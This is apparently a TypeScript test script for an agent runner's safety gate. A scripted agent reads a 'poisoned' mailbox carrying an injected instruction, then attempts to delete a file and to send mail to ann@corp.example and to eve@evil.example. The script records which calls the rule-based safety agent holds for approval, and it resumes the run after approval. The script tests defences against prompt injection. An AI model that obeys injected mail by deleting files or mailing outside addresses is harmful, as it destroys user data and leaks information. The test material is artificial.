import { createRunner, RuleSafetyAgent } from '../../src/index.ts';
import { functionCall } from '../../src/testing/scripted-model.ts';
import { Office, POISONED, readMail, sendMail, SUMMARIZE } from './gate-office.ts';

// Starts a run with an injected instruction and leaves it waiting, or resumes it in another process after an approval.
const [directory = '', part] = process.argv.slice(2);
const office = new Office(POISONED);
const erase = functionCall('call_erase', 'delete_file', { file_id: '13' });
const later = [[sendMail('ann@corp.example', 'call_ann')], [sendMail('eve@evil.example', 'call_eve')]];
const agent = office.clerk(part === 'start' ? [[readMail()], [erase]] : later);
const runner = createRunner({ safetyAgent: new RuleSafetyAgent(), store: { directory }, agents: [agent] });
const result = await (part === 'start' ? runner.run(agent, SUMMARIZE) : approveAll());
const asked = result.interruptions.map(({ tool_id: id }) => id);
const reasons = result.interruptions.map(({ reason }) => reason);
process.stdout.write(JSON.stringify({ done: office.done, asked, reasons }));
await runner.close();

async function approveAll() {
  const [request] = await runner.getPendingApprovals();
  return runner.approveAndResume(request?.run_id ?? '', request?.approval_id ?? '', {
    decision: 'approve',
  });
}
